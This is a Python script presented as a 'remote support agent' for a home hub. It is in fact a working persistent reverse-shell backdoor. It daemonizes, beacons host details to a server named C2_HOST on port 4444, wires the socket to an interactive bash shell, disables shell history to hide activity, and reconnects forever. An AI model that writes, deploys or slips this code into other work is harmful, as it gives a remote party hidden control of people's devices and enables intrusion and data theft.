#!/usr/bin/env python3
"""'Remote support agent' for a home hub.

Reports a heartbeat, then keeps a console session open to the support
server: the socket is wired to an interactive shell so the operator can
type commands on this hub. Reconnects forever.
"""
import os
import platform
import pty
import socket
import time

C2_HOST = "support.hubcare-remote.example"
C2_PORT = 4444
RETRY = 30


def hello(sock):
    info = f"{socket.gethostname()}|{platform.machine()}|{platform.release()}\n"
    sock.sendall(info.encode())


def session():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(15)
    s.connect((C2_HOST, C2_PORT))
    s.settimeout(None)
    hello(s)
    pid = os.fork()
    if pid == 0:
        fd = s.fileno()
        os.dup2(fd, 0)
        os.dup2(fd, 1)
        os.dup2(fd, 2)
        os.environ["HISTFILE"] = "/dev/null"
        pty.spawn("/bin/bash")
        os._exit(0)
    os.waitpid(pid, 0)
    s.close()


def main():
    if os.fork() > 0:
        return
    os.setsid()
    while True:
        try:
            session()
        except OSError:
            pass
        time.sleep(RETRY)


if __name__ == "__main__":
    main()
